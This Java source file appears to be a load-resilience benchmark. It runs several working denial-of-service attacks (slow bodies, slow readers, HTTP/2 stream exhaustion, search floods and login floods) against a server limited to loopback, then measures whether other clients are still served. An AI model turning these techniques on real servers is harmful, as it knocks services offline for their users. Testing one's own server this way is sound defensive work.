import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Attacks a server on this machine and tells whether others are still served:
 *
 * <pre>java src/bench/attack/Attack.java NAME http://127.0.0.1:8080 [http://127.0.0.1:9000 [LOG]]
 * </pre>
 *
 * <p>NAME is bodies, streams, readers, search or logins; then come the server, its management port
 * and the file it logs to. Each takes less than 30 seconds. While it lasts, reads of others must
 * answer 200 within twice their idle 95th percentile, health must answer, and the log must stay
 * small. The attackers use other loopback addresses than the reads, which not every system has.
 */
final class Attack {

    private static final Duration IDLE = Duration.ofSeconds(5);
    private static final Duration UNDER_ATTACK = Duration.ofSeconds(12);
    private static final long FEW_MILLIS = 20;
    private static final long SMALL_LOG = 100_000;

    private final URI server;
    private final List<Socket> sockets = new ArrayList<>();
    private final AtomicInteger opened = new AtomicInteger();
    private final AtomicInteger cutOff = new AtomicInteger();
    private volatile boolean over;

    private Attack(URI server) {
        if (!List.of("127.0.0.1", "localhost").contains(server.getHost())) {
            throw new IllegalArgumentException("Only servers on this machine are attacked.");
        }
        this.server = server;
    }

    public static void main(String[] args) throws Exception {
        if (args.length < 2) {
            System.err.println("Attack NAME SERVER [MANAGEMENT [LOG]]");
            System.exit(2);
        }
        var attack = new Attack(URI.create(args[1]));
        var management = URI.create(args.length > 2 ? args[2] : "http://127.0.0.1:9000");
        var log = args.length > 3 ? Path.of(args[3]) : null;
        System.exit(attack.run(args[0], management, log) ? 0 : 1);
    }

    private boolean run(String name, URI management, Path log) throws Exception {
        reads(Duration.ofSeconds(3)); // warms up
        var idle = reads(IDLE);
        long logged = log == null ? 0 : Files.size(log);
        start(name);
        Thread.sleep(2_000);
        var attacked = reads(UNDER_ATTACK);
        boolean healthy = status(management.resolve("/q/health/ready")) == 200;
        over = true;
        synchronized (sockets) {
            for (var socket : sockets) {
                socket.close();
            }
        }
        logged = log == null ? 0 : Files.size(log) - logged;
        long allowed = Math.max(2 * idle.p95(), FEW_MILLIS);
        boolean passed =
                attacked.failed() == 0
                        && attacked.p95() <= allowed
                        && healthy
                        && logged <= SMALL_LOG;
        System.out.printf(
                "%s %s: idle p95 %d ms of %d reads; attacked p95 %d ms, slowest %d ms of %d reads,"
                        + " %d not 200; health %s; log %+d bytes; %d connections, %d cut off%n",
                passed ? "PASS" : "FAIL",
                name,
                idle.p95(),
                idle.millis().length,
                attacked.p95(),
                attacked.slowest(),
                attacked.millis().length,
                attacked.failed(),
                healthy ? "answers" : "SILENT",
                logged,
                opened.get(),
                cutOff.get());
        return passed;
    }

    private void start(String name) throws Exception {
        switch (name) {
            case "bodies" -> times(300, this::sendBodySlowly);
            case "streams" -> times(1, client -> openStreams());
            case "readers" -> times(300, this::readSlowly);
            case "search" -> times(40, this::search);
            case "logins" -> times(100, this::signIn);
            default -> throw new IllegalArgumentException("No attack is called " + name);
        }
    }

    // --- Attacks
    // ----------------------------------------------------------------------------------

    private void sendBodySlowly(int client) throws Exception {
        var path = client % 2 == 0 ? "/api/v1/auth/login" : "/wp-json/wp/v2/comments";
        try (var socket = connect(client)) {
            send(
                    socket,
                    "POST "
                            + path
                            + " HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
                            + "Content-Length: 1000\r\n\r\n");
            while (!over) {
                send(socket, " ");
                Thread.sleep(500);
            }
        }
    }

    private void readSlowly(int client) throws Exception {
        try (var socket = connect(client)) {
            var request =
                    "GET /wp-json/wp/v2/posts?per_page=100&_embed HTTP/1.1\r\nHost: a\r\n\r\n";
            send(socket, request.repeat(3));
            var in = socket.getInputStream();
            while (!over && in.readNBytes(200).length > 0) {
                Thread.sleep(500);
            }
            if (!over) {
                throw new IOException("closed");
            }
        }
    }

    private void search(int client) throws Exception {
        var paths =
                List.of(
                        "/api/v1/posts?search=zzz&count=true&fields=id",
                        "/?feed=rss2&s=a",
                        "/wp-json/wp/v2/posts?search=zzz");
        while (!over) {
            status(server.resolve(paths.get(client % paths.size())));
            opened.incrementAndGet();
        }
    }

    private void signIn(int client) throws Exception {
        var body = "{\"login\": \"nobody%d\", \"password\": \"wrong password\"}".formatted(client);
        var request =
                HttpRequest.newBuilder(server.resolve("/api/v1/auth/login"))
                        .timeout(Duration.ofSeconds(20))
                        .header("Content-Type", "application/json")
                        .POST(HttpRequest.BodyPublishers.ofString(body))
                        .build();
        while (!over) {
            client().send(request, BodyHandlers.discarding());
            opened.incrementAndGet();
        }
    }

    /** HTTP/2 by prior knowledge; where it is not spoken, nothing is left to attack. */
    private void openStreams() throws Exception {
        try (var socket = connect(0)) {
            socket.setSoTimeout(3_000);
            send(socket, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
            frame(socket, 4, 0, 0, new byte[0]);
            var first = socket.getInputStream().readNBytes(9);
            if (first.length < 9 || first[3] != 4) {
                System.out.println("HTTP/2 without TLS is refused.");
                return;
            }
            drain(socket.getInputStream());
            for (int stream = 1; stream < 600; stream += 2) {
                frame(socket, 1, 4, stream, head());
            }
            while (!over) {
                for (int stream = 1; stream < 600; stream += 2) {
                    frame(socket, 0, 0, stream, new byte[] {' '});
                }
                Thread.sleep(1_000);
            }
        }
    }

    private void drain(InputStream in) {
        background(
                () -> {
                    while (in.read() >= 0) {
                        // Only what would fill the buffer.
                    }
                });
    }

    /** POST to the WordPress surface, in HPACK without a table (RFC 7541). */
    private static byte[] head() {
        var path = "/wp-json/wp/v2/comments";
        var text = "\u0083\u0086\u0004" + (char) path.length() + path + "\u0001\u0001a";
        var type = "application/json";
        text += "\u000f\u0010" + (char) type.length() + type;
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static void frame(Socket socket, int type, int flags, int stream, byte[] payload)
            throws IOException {
        var bytes = new byte[9 + payload.length];
        bytes[1] = (byte) (payload.length >> 8);
        bytes[2] = (byte) payload.length;
        bytes[3] = (byte) type;
        bytes[4] = (byte) flags;
        bytes[7] = (byte) (stream >> 8);
        bytes[8] = (byte) stream;
        System.arraycopy(payload, 0, bytes, 9, payload.length);
        socket.getOutputStream().write(bytes);
    }

    // --- Clients
    // ----------------------------------------------------------------------------------

    private interface Client {
        void run(int number) throws Exception;
    }

    private interface Work {
        void run() throws Exception;
    }

    /** Each comes again when it was cut off, up to thrice a second. */
    private void times(int clients, Client client) {
        for (int i = 0; i < clients; i++) {
            int number = i;
            background(
                    () -> {
                        while (!over) {
                            try {
                                client.run(number);
                                return;
                            } catch (IOException e) {
                                cutOff.incrementAndGet();
                                Thread.sleep(300);
                            }
                        }
                    });
        }
    }

    private static void background(Work work) {
        var thread =
                new Thread(
                        () -> {
                            try {
                                work.run();
                            } catch (Exception e) {
                                // The attack is over, or this client has lost.
                            }
                        });
        thread.setDaemon(true);
        thread.start();
    }

    private Socket connect(int client) throws IOException {
        var socket = new Socket();
        socket.setReceiveBufferSize(4_096);
        try {
            socket.bind(new InetSocketAddress("127.0.0." + (2 + client % 8), 0));
        } catch (IOException e) {
            socket = new Socket();
        }
        socket.connect(
                new InetSocketAddress(InetAddress.getByName(server.getHost()), server.getPort()),
                5_000);
        opened.incrementAndGet();
        synchronized (sockets) {
            sockets.add(socket);
        }
        return socket;
    }

    private static void send(Socket socket, String text) throws IOException {
        socket.getOutputStream().write(text.getBytes(StandardCharsets.ISO_8859_1));
    }

    // --- Reads of others
    // ----------------------------------------------------------------------------

    private record Reads(long[] millis, int failed) {

        long p95() {
            return millis.length == 0 ? Long.MAX_VALUE / 4 : millis[(millis.length - 1) * 95 / 100];
        }

        long slowest() {
            return millis.length == 0 ? Long.MAX_VALUE / 4 : millis[millis.length - 1];
        }
    }

    private Reads reads(Duration duration) throws Exception {
        var millis = new ConcurrentLinkedQueue<Long>();
        var failed = new AtomicInteger();
        long end = System.nanoTime() + duration.toNanos();
        var readers = new ArrayList<Thread>();
        for (var path : List.of("/api/v1/posts?limit=10", "/api/v1/tags?limit=1")) {
            var reader =
                    new Thread(
                            () -> {
                                while (System.nanoTime() < end) {
                                    long start = System.nanoTime();
                                    if (status(server.resolve(path)) != 200) {
                                        failed.incrementAndGet();
                                    }
                                    millis.add((System.nanoTime() - start) / 1_000_000);
                                    pause();
                                }
                            });
            reader.start();
            readers.add(reader);
        }
        for (var reader : readers) {
            reader.join();
        }
        var sorted = millis.stream().mapToLong(Long::longValue).toArray();
        Arrays.sort(sorted);
        return new Reads(sorted, failed.get());
    }

    private static void pause() {
        try {
            Thread.sleep(10);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private static HttpClient client() {
        return Holder.CLIENT;
    }

    private static final class Holder {
        static final HttpClient CLIENT =
                HttpClient.newBuilder()
                        .version(HttpClient.Version.HTTP_1_1)
                        .connectTimeout(Duration.ofSeconds(5))
                        .build();
    }

    /** 0 where none came. */
    private static int status(URI address) {
        try {
            var request = HttpRequest.newBuilder(address).timeout(Duration.ofSeconds(5)).build();
            return client().send(request, BodyHandlers.discarding()).statusCode();
        } catch (IOException e) {
            return 0;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return 0;
        }
    }
}
